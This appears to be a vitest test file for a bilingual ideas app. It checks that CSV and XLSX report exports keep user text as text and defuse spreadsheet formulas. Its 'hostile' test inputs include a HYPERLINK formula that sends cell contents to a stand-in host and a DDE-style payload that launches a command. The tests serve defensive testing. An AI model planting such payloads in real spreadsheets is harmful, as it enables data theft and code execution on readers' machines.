import { spawnSync } from "node:child_process";
import { v7 as newId } from "uuid";
import { beforeAll, describe, expect, test } from "vitest";
import { z } from "zod";
import type { Doer } from "@/actions/action";
import { editIdea, proposeIdea } from "@/actions/ideas";
import { ownIdea } from "@/actions/owners";
import { type Cast, cast } from "@/db/cast";
import { ideaSeenBy } from "@/db/ideas";
import { now } from "@/domain/clock";
import { dayOf } from "@/domain/day";
import { parts } from "@/domain/export/voice";
import type { Member } from "@/domain/member";
import { shelfMark } from "@/domain/programme";
import { api } from "./app";
import { sessionOf } from "./rehearsal/callers";

const hostile = [
  '=HYPERLINK("https://boese.example/?x="&A1;"Lesen")',
  "+49 351 8648233",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd",
  'Sagt „ja“ und "nein"; und weiter, bitte',
  "Zoë lit à l’œuvre – Bücher, Maß, ẞ",
  "👩‍👩‍👧‍👦 lesen 📚",
  "<b>&amp; kein HTML</b> ]]>",
  "_x0041_ ist kein A",
  "2024-04-23",
  "1e5",
];
const description = `=1+1\nZeile zwei; "gesagt"\n\n${"Vorlesen für alle, œuvre. ".repeat(400)}Ende.`;

let people: Cast;
const marks: string[] = [];

beforeAll(async () => {
  process.env["RATE_LIMIT"] = "0";
  people = await cast();
  for (const title of hostile) {
    const id = newId();
    const made = await proposeIdea(doer(people.anna), { id, title, language: "de" });
    if ("refused" in made) throw new Error(made.refused);
    const idea = await ideaSeenBy(people.anna, people.gate, id);
    marks.push(shelfMark(people.programme, idea?.card.number ?? 0));
  }
  const [first = ""] = marks;
  const number = Number(first.split("-").at(-1));
  const edited = await editIdea(doer(people.anna), {
    idea: number,
    description: { edition: 1, source: description },
    due: "2027-04-23",
  });
  if ("refused" in edited) throw new Error(edited.refused);
});

function doer(member: Member): Doer {
  return { member, gate: people.gate, request: newId() };
}

async function download(member: Member, path: string): Promise<Response> {
  return api.request(`/api/v1/programmes/${people.gate.slug}/${path}`, { headers: await sessionOf(member) });
}

const cell = z.object({
  kind: z.string(),
  value: z.union([z.string(), z.number(), z.null()]),
  format: z.string().nullable(),
  formula: z.boolean(),
});
const csv = z.object({ mark: z.boolean(), ends: z.boolean(), rows: z.array(z.array(z.string())) });
const workbook = z.array(
  z.object({
    name: z.string(),
    frozen: z.boolean(),
    widths: z.array(z.number()),
    rows: z.array(z.array(cell.nullable())),
  }),
);

/** What another program than ours reads in a file. */
async function readBack(kind: "csv" | "xlsx", answer: Response): Promise<unknown> {
  expect(answer.status).toBe(200);
  const input = Buffer.from(await answer.arrayBuffer());
  const { status, stdout, stderr } = spawnSync("python3", ["api/rehearsal/read-back.py", kind], { input });
  if (status !== 0) throw new Error(stderr.toString());
  return JSON.parse(stdout.toString());
}

async function csvOf(member: Member, query: string) {
  return csv.parse(await readBack("csv", await download(member, `report.csv?${query}`)));
}

async function workbookOf(member: Member, query: string) {
  return workbook.parse(await readBack("xlsx", await download(member, `report.xlsx?${query}`)));
}

describe("the ideas as CSV", () => {
  test("are read by another program as they were written, formulas defused", async () => {
    const { mark, ends, rows } = await csvOf(people.mira, "languages=de,fr");
    expect([mark, ends]).toEqual([true, true]);
    const [head, ...ideas] = rows;
    expect(head?.join(";")).toBe(
      "Signatur / Cote;Titel;Titre;Thema;Thème;Status;Statut;Termin / Échéance;Verantwortliche;Responsables",
    );
    expect(ideas.every((row) => row.length === head?.length)).toBe(true);
    for (const [place, title] of hostile.entries()) {
      const row = ideas.find(([mark]) => mark === marks[place]);
      expect(row?.[1]).toBe(/^[=+\-@]/.test(title) ? `'${title}` : title);
    }
    expect(ideas.flat().filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
    expect(ideas.find(([mark]) => mark === marks[0])?.[7]).toBe("2027-04-23");
  });

  test("carry the descriptions of the ideas that are chosen, whole", async () => {
    const number = marks[0]?.split("-").at(-1);
    const { rows } = await csvOf(people.mira, `languages=de&chosen=${number}`);
    expect(rows[0]?.at(-1)).toBe("Beschreibung");
    const told = rows.filter((row) => row.at(-1) !== "").slice(1);
    expect(told.map(([mark]) => mark)).toEqual([marks[0]]);
    expect(told[0]?.at(-1)).toBe(`'${description}`);
    expect(description.length).toBeGreaterThan(10_000);
  });

  test("are called something that says what they are, in the reader’s language", async () => {
    const today = dayOf(now(), people.programme.timeZone);
    const german = await download(people.mira, "report.csv?part=changes");
    expect(german.headers.get("Content-Type")).toBe("text/csv; charset=utf-8");
    expect(german.headers.get("Cache-Control")).toBe("private, no-store");
    expect(german.headers.get("Content-Disposition")).toBe(
      `attachment; filename="ds-bericht-aenderungen-${today}.csv"; filename*=UTF-8''ds-bericht-%C3%A4nderungen-${today}.csv`,
    );
    const french = await download(people.luc, "report.csv");
    expect(french.headers.get("Content-Disposition")).toContain(`filename="ds-rapport-${today}.csv"`);
  });
});

describe("the workbook", () => {
  test("has each part on a sheet with a head that stays, days that are days and numbers that are numbers", async () => {
    const sheets = await workbookOf(people.mira, "languages=de,fr");
    expect(sheets.map(({ name }) => name)).toEqual([
      "Ideen · Idées",
      "Kennzahlen · Chiffres",
      "Änderungen · Changements",
    ]);
    for (const { frozen, widths, rows, name } of sheets) {
      expect(frozen, name).toBe(true);
      expect(widths, name).toHaveLength(rows[0]?.length ?? -1);
      expect(rows.flat().filter((cell) => cell?.formula)).toEqual([]);
    }
    const [ideas, figures, changes] = sheets;
    const first = ideas?.rows.find(([mark]) => mark?.value === marks[0]);
    expect(first?.[7]).toEqual({ kind: "n", value: serial("2027-04-23"), format: "dd.mm.yyyy", formula: false });
    const fresh = figures?.rows.find((row) => row[2]?.value === "Neu");
    expect(fresh?.[4]?.kind).toBe("n");
    expect(Number(fresh?.[4]?.value)).toBeGreaterThanOrEqual(hostile.length);
    expect(changes?.rows.slice(1).every(([day]) => day?.kind === "n" && day.format === "dd.mm.yyyy")).toBe(true);
  });

  test("keeps what people wrote as text, however it begins", async () => {
    const number = marks[0]?.split("-").at(-1);
    const [ideas] = await workbookOf(people.mira, `languages=de&chosen=${number}`);
    for (const [place, title] of hostile.entries()) {
      const row = ideas?.rows.find(([mark]) => mark?.value === marks[place]);
      expect(row?.[1]).toMatchObject({ kind: "s", value: title, formula: false });
    }
    const first = ideas?.rows.find(([mark]) => mark?.value === marks[0]);
    expect(first?.at(-1)?.value).toBe(description);
  });

  test("writes days as its reader does", async () => {
    const [ideas] = await workbookOf(people.luc, "languages=fr");
    expect(ideas?.rows.find(([mark]) => mark?.value === marks[0])?.[4]?.format).toBe("dd/mm/yyyy");
  });
});

function serial(day: string): number {
  return Date.parse(`${day}T00:00:00Z`) / 86_400_000 + 25_569;
}

describe("names", () => {
  test("of members are in no part unless they are asked for", async () => {
    const [, , , idea = ""] = marks;
    const owned = await ownIdea(doer(people.anna), { idea: Number(idea.split("-").at(-1)), member: people.anna.id });
    if ("refused" in owned) throw new Error(owned.refused);
    const span = `from=${people.programme.begins}&to=2099-12-31`;
    const told = async (query: string): Promise<string> => {
      const tables = await Promise.all(parts.map((part) => csvOf(people.mira, `${span}&part=${part}&${query}`)));
      return JSON.stringify(tables) + JSON.stringify(await workbookOf(people.mira, `${span}&${query}`));
    };
    const silent = await told("");
    for (const { name } of people.programme.people) expect(silent).not.toContain(name);
    const named = await told("names=true");
    for (const { name } of [people.anna, people.luc]) expect(named).toContain(name);
  });
});

test("what is asked for wrongly is told, and whoever does not see all of a programme finds no report", async () => {
  const code = async (query: string) => {
    const answer = await download(people.mira, `report.csv?${query}`);
    return [
      answer.status,
      Object.entries(z.object({ fields: z.record(z.string(), z.string()) }).parse(await answer.json()).fields),
    ];
  };
  expect(await code("month=2026-13")).toEqual([422, [["month", "not_a_month"]]]);
  expect(await code("from=2026-05-02")).toEqual([422, [["to", "empty"]]]);
  expect(await code("from=2026-05-02&to=2026-05-01")).toEqual([422, [["to", "ends_early"]]]);
  expect(await code("languages=de,la")).toEqual([422, [["languages", "not_a_language"]]]);
  expect(await code("chosen=1,x")).toEqual([422, [["chosen", "wrong_type"]]]);
  expect(await code("part=secrets")).toEqual([422, [["part", "wrong_type"]]]);
  expect((await download(people.guest, "report.csv")).status).toBe(404);
  expect((await download(people.guest, "report.xlsx")).status).toBe(404);
});
